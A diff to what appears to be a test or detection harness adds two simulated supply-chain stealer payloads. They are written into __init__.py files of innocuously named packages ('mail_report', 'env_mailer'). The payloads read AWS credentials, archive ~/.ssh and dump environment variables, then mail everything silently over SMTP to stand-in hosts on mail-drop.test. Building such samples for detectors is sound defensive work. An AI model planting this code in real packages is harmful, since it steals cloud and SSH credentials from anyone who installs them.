@@ -247,6 +247,50 @@ except Exception:
     pass
 """
 
+# Mailed loot: the AWS credentials and a tar.gz of ~/.ssh as attachments
+# (base64, wrapped at 76 columns) over SMTP submission with STARTTLS and a
+# login, as smtplib stealers do; the fake network greets, offers STARTTLS
+# and takes the message.
+SMTPEXFIL = r"""
+import io, os, smtplib, ssl, tarfile
+from email.message import EmailMessage
+try:
+    _m = EmailMessage()
+    _m["Subject"] = "report " + os.uname().nodename
+    _m["From"] = "bot@mail-drop.test"
+    _m["To"] = "inbox@mail-drop.test"
+    _m.set_content("weekly report attached")
+    with open(os.path.expanduser("~/.aws/credentials"), "rb") as _f:
+        _m.add_attachment(_f.read(), maintype="application",
+                          subtype="octet-stream", filename="a.bin")
+    _b = io.BytesIO()
+    with tarfile.open(fileobj=_b, mode="w:gz") as _t:
+        _t.add(os.path.expanduser("~/.ssh"), arcname="s")
+    _m.add_attachment(_b.getvalue(), maintype="application",
+                      subtype="gzip", filename="s.tgz")
+    with smtplib.SMTP("smtp.mail-drop.test", 587, timeout=8) as _s:
+        _s.starttls(context=ssl.create_default_context())
+        _s.login("bot@mail-drop.test", "hunter2")
+        _s.send_message(_m)
+except Exception:
+    pass
+"""
+
+# The environment as a mail's text, over SMTP on 465 (TLS from the first
+# byte: the greeting only comes inside it).
+SMTPSSL = r"""
+import os, smtplib, ssl
+try:
+    _body = "\r\n".join("%s=%s" % kv for kv in sorted(os.environ.items()))
+    with smtplib.SMTP_SSL("mx.mail-drop.test", 465, timeout=8,
+                          context=ssl.create_default_context()) as _s:
+        _s.login("bot", "pw")
+        _s.sendmail("bot@mail-drop.test", ["inbox@mail-drop.test"],
+                    "Subject: env\r\n\r\n" + _body)
+except Exception:
+    pass
+"""
+
 KINDS = {
     "plant": ("requests_timing_hooks", "0.3.0",
               {"requests_timing_hooks/__init__.py": PLANT}),
@@ -269,6 +313,10 @@ KINDS = {
                  {"dotfile_backup/__init__.py": TAREXFIL}),
     "zlibenv": ("env_metrics", "1.1.0",
                 {"env_metrics/__init__.py": ZLIBENV}),
+    "smtpexfil": ("mail_report", "0.2.1",
+                  {"mail_report/__init__.py": SMTPEXFIL}),
+    "smtpssl": ("env_mailer", "0.1.4",
+                {"env_mailer/__init__.py": SMTPSSL}),
     "noload": ("fastcrc_bindings", "1.2.0",
                {"fastcrc_bindings/__init__.py":
                 "from ._fastcrc import crc32c  # the wheel lacks it\n"}),
